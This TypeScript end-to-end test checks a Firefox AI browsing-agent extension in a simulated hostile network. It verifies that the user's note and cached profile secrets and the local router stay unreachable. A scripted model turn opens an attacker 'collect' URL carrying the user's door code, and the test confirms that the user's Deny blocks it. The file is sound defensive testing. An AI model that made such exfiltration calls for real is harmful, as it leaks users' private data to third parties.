/**
 * The hostile world (tests/e2e/hostile-world.test.ts) in Firefox ESR with the Firefox build: the same
 * scenario through Firefox's own code paths — browser.dns before the fast path's request and before
 * every request of an agent tab (kept after the tab closed, and for its container's requests without a
 * tab: a keepalive's redirect reached the router without it), the agent tab's own container (the notes
 * app rendered empty), the Last-Modified mark for the MAIN-world script. Run normally, this file starts
 * itself again inside the namespace (`unshare --net --mount`, as root) and fails, with the reason, if it
 * cannot. Needs `npm run build && npm run build:firefox`. It could not run before the Firefox build dropped
 * the MV3 default CSP's upgrade-insecure-requests (scripts/firefox-manifest.ts): the background's http://
 * fetches of the world's public hosts went to port 443.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { launchFirefoxExtension, type FirefoxExtension } from '../support/firefox-browser';
import { lastChatRequest, startModelServer, type ModelServer } from '../support/model-server';
import { insideWorld, runFileInWorld } from '../support/net-world/enter-world';
import { FINAL_ANSWER, QUESTION, WORLD_TURNS, checkAgentPhase, worldSettings } from '../support/net-world/world-scenario';
import { CACHE_SECRET, NOTE_SECRET, PROFILE_URL, WORLD_URLS, startWorldServers, type WorldServers } from '../support/net-world/world-sites';
import { startSearchBackend, type SearchBackend } from '../support/search-backend';
import { askInSidebar, patchSettings } from './firefox-world';

/** What the user tells the model in the provenance step: the made-up address would carry it out. */
const DOOR_CODE = 'DOOR-CODE-6612';

if (!insideWorld()) {
  describe('the hostile world (Firefox)', () => {
    it('runs inside a network namespace of its own', async () => {
      const { code, output } = await runFileInWorld('tests/e2e/firefox-hostile-world.test.ts', 600_000);
      expect(code, output).toBe(0);
      // The inner run ran the scenarios, not nothing (vitest colours its summary).
      expect(output.replace(/\x1b\[[0-9;]*m/g, '')).toMatch(/Tests\s+\d+ passed/);
    }, 620_000);
  });
} else {
  describe('the hostile world (Firefox), inside the namespace', () => {
    let world: WorldServers;
    let model: ModelServer;
    let search: SearchBackend;
    let ff: FirefoxExtension;

    beforeAll(async () => {
      world = await startWorldServers();
      model = await startModelServer({ contextLength: 131_072 });
      search = await startSearchBackend({ siteUrl: WORLD_URLS.attacker.replace(/\/$/, '') });
      // The pop-up blocker on, as users have it; WebRTC as it ships (puppeteer leaves it on); speculative
      // connections (preconnect hints, link hovers) at Firefox's default of 20 (puppeteer sets 0, which would
      // hide them). Firefox's own Local Network Access check off: Sidelight's defences must hold without it
      // (with it on, a keepalive request that got past them still reached the router as a TCP connection).
      ff = await launchFirefoxExtension({ prefs: { 'dom.disable_open_during_load': true, 'network.http.speculative-parallel-limit': 20, 'network.lna.enabled': false } });
    });
    afterAll(async () => {
      await ff?.close();
      await model?.close();
      await search?.close();
      await world?.close();
    });

    it('gives the model no secret and the router nothing at all', { timeout: 300_000 }, async () => {
      // The user keeps a note in the notes app (localStorage only, no cookie), in their own tab.
      const own = await ff.browser.newPage();
      await own.goto(WORLD_URLS.notes);
      await own.evaluate((s) => localStorage.setItem('note', s), NOTE_SECRET);
      await own.reload();
      expect(await own.evaluate(() => document.body.textContent)).toContain(NOTE_SECRET);
      // …and looked at their profile, logged in by HTTP auth: the browser keeps the private answer in its cache.
      await own.goto(PROFILE_URL);
      expect(await own.evaluate(() => fetch('/me.json', { headers: { authorization: 'Basic dXNlcjpwdw==' } }).then((r) => r.text()))).toContain(CACHE_SECRET);
      expect(await own.evaluate(() => fetch('/me.json').then((r) => r.text()))).toContain(CACHE_SECRET);
      await own.close();

      const setup = await ff.openExtensionPage('src/options/index.html');
      await patchSettings(setup, worldSettings(model.url, search.url));
      model.setTurns(WORLD_TURNS);
      const panel = await askInSidebar(ff, QUESTION);
      await panel.waitForFunction((a) => document.querySelector('[role="log"]')?.textContent?.includes(a), { timeout: 240_000 }, FINAL_ANSWER);
      // The keepalive page's requests outlive its tab by the slow redirect's 3 s.
      await new Promise((r) => setTimeout(r, 6000));
      const scenario = lastChatRequest(model.requests);
      await panel.close();
      // Firefox sends a closed agent tab's pagehide requests in some runs only: under load, often neither
      // (the page's script did run: /ran?keepalive). Such a run would not test the after-close path at all, so
      // the keepalive page is opened again until they are sent, up to eight times; each try waits 3 s for
      // them and, once they came, the slow redirect's 3 s. The router is checked after all of them.
      const leftBehind = () => world.attackerHits.some((h) => h.what.includes('/slow?'));
      for (let i = 0; i < 8 && !leftBehind(); i++) {
        model.setTurns([{ toolCalls: [{ name: 'browser.open', arguments: { id: WORLD_URLS.page('/keepalive.html') } }] }, { content: `Done ${i}.`, chunkSize: 64 }]);
        const retry = await askInSidebar(ff, `Summarise ${WORLD_URLS.page('/keepalive.html')} for me.`);
        await retry.waitForFunction((a) => document.querySelector('[role="log"]')?.textContent?.includes(a), { timeout: 60_000 }, `Done ${i}.`);
        // Not sent within 3 s: the next try (waitUntil rejects on its timeout).
        await vi.waitUntil(leftBehind, { timeout: 3000, interval: 100 }).catch(() => {});
        if (leftBehind()) await new Promise((r) => setTimeout(r, 6000));
        await retry.close();
      }

      const router = checkAgentPhase(world, model, 'Firefox', scenario);
      // Firefox resolves every name before the request: the router gets nothing at all.
      expect.soft(router).toEqual([]);

      // Control: the same page in the user's own tab keeps WebRTC, and it does reach the router from there.
      const control = await ff.browser.newPage();
      await control.goto(WORLD_URLS.page('/rtc.html'));
      expect(await control.evaluate(() => [typeof WebSocket, typeof RTCPeerConnection])).toEqual(['function', 'function']);
      await expect.poll(() => world.routerHits.some((h) => h.what.startsWith('udp packet')), { timeout: 15_000 }).toBe(true);
      await control.close();

      // Provenance: with no host opened without asking, an address the model made up with what it was told
      // (the user's door code) waits for the user's answer; Deny sends nothing and the model is told.
      await patchSettings(setup, { browsing: { openWithoutAsking: [] } });
      const leak = `${WORLD_URLS.attacker}collect?d=${DOOR_CODE}`;
      model.setTurns([
        { toolCalls: [{ name: 'browser.open', arguments: { id: WORLD_URLS.attacker } }] },
        { toolCalls: [{ name: 'browser.open', arguments: { id: leak } }] },
        { content: 'Refused, as you said.', chunkSize: 64 },
      ]);
      const asked = await askInSidebar(ff, `My door code is ${DOOR_CODE}. ${QUESTION}`);
      const group = await asked.waitForSelector('::-p-aria([role="group"][name="Open an address the model wrote itself?"])', { timeout: 60_000 });
      expect(await group!.evaluate((g) => g.querySelector('.open-question__url')?.textContent)).toBe(leak);
      await (await group!.waitForSelector('::-p-aria([role="button"][name="Deny"])'))!.click();
      await asked.waitForFunction(() => document.querySelector('[role="log"]')?.textContent?.includes('Refused, as you said.'), { timeout: 60_000 });
      const results = (lastChatRequest(model.requests).body.messages as { role: string; content: string }[]).filter((m) => m.role === 'tool').map((m) => m.content);
      expect(results.at(-1)).toMatch(/was declined by the user/);
      expect(world.attackerHits.map((h) => h.what).filter((w) => w.includes('/collect') || w.includes(DOOR_CODE))).toEqual([]);
      await Promise.all([asked.close(), setup.close()]);
    });
  });
}
